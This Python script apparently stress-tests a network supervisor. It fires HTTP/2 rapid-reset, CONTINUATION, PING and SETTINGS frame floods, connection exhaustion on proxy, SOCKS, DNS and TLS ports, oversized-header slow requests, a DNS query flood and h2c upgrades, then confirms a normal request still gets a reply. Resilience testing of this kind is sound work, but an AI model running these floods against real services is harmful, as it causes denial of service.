# Floods of the supervisor from inside, one after the other, each bounded; at the end an ordinary request has to be answered.
import os, socket, ssl, struct, sys, time

HOST = "allowed.example"
GET = b"GET /fine HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


HEAD = b"".join(literal(*pair) for pair in ((b":method", b"GET"), (b":scheme", b"https"), (b":authority", HOST.encode()), (b":path", b"/")))


def opened():
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    s = context.wrap_socket(socket.create_connection((HOST, 443), timeout=5), server_hostname=HOST)
    s.sendall(PREFACE)
    return s


def until_cut(s, chunks):
    try:
        for chunk in chunks:
            s.sendall(chunk)
    except OSError:
        pass
    s.close()


def connections(address, first=b"", count=1500):
    held = []
    for _ in range(count):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(address)
        held.append(s)
    for s in held:
        try:
            s.send(first)
        except OSError:
            pass
    time.sleep(0.3)
    for s in held:
        s.close()


def heads():
    held = []
    head = b"GET /hold HTTP/1.1\r\nHost: allowed.example\r\nX: " + b"a" * 60000 + b"\r\n\r\n"
    for _ in range(40):
        s = socket.create_connection((HOST, 80), timeout=0.3)
        held.append(s)
        try:
            for _ in range(62):
                s.sendall(head)
        except OSError:
            pass
    for s in held:
        s.close()


def questions():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("127.0.0.1", 53))
    s.setblocking(False)
    for index in range(20000):
        label = b"n%d" % index
        try:
            s.send(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\4test\0\0\1\0\1")
        except OSError:
            pass


def upgrades():
    s = socket.create_connection((HOST, 80), timeout=5)
    for _ in range(300):
        s.sendall(GET[:-2] + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n")
        if not s.recv(65536):
            sys.exit("an upgrade was cut off")


until_cut(opened(), (frame(1, 5, i, HEAD) + frame(3, 0, i, b"\0\0\0\x08") for i in range(1, 20001, 2)))
until_cut(opened(), (frame(1, 5, i, HEAD) + frame(8, 0, i, b"\0\0\0\0") for i in range(1, 20001, 2)))
until_cut(opened(), (frame(6, 0, 0, b"12345678") * 50 for _ in range(400)))
until_cut(opened(), (frame(4, 0, 0, b"\0\3\0\0\0\1") * 50 for _ in range(400)))
until_cut(opened(), [frame(1, 1, 1, HEAD)] + [frame(9, 0, 1, literal(b"x", b"y" * 100) * 100)] * 500)
connections(("127.0.0.1", 3128))
connections(("127.0.0.1", 1080), b"\5\1\0")
connections(("127.0.0.1", 53), b"\0\x10abc")
connections((HOST, 443), b"\x16\3\1\2\0\1\0\1\xfc\3\3" + b"a" * 200)
connections(("203.0.113.9", 4444), b"GET / HTTP/1.1\r\n")
heads()
questions()
upgrades()
s = socket.create_connection((HOST, 80), timeout=10)
s.sendall(GET)
print(s.recv(4096).decode())
